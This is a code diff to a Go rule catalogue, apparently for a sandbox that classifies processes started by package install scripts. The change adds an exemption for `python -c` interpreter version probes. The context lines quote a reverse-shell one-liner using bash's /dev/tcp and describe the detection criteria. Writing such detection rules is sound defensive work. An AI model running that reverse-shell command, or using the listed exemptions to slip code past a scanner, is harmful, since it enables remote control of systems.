@@ -158,6 +158,9 @@ var catalogue = []Rule{
 			"scripts run and is not counted (unless its script connects through bash's /dev/tcp or /dev/udp, as reverse " +
 			"shells do: `bash -i >& /dev/tcp/host/port 0>&1`), and neither is `node -e` whose code only loads one of the package's own " +
 			"files (`try{require('./postinstall')}catch(e){}`): that is the package's install script, written inline. " +
+			"In every phase, `python -c` whose code only imports sys or platform and prints facts about the interpreter " +
+			"(version, executable, prefixes, platform) is a version probe, not inline code: node-gyp's " +
+			"`python3 -c 'import sys; print(\"%s.%s.%s\" % sys.version_info[:3]);'`. " +
 			"What the script starts is counted. An attempt to run such a program that does not exist counts the same " +
 			"(the sandbox runs a stand-in that fails like a missing command, so the attempt is seen). Medium when every " +
 			"such process is a shell whose command line only runs programs that look up local state (cat, head, tail, " +
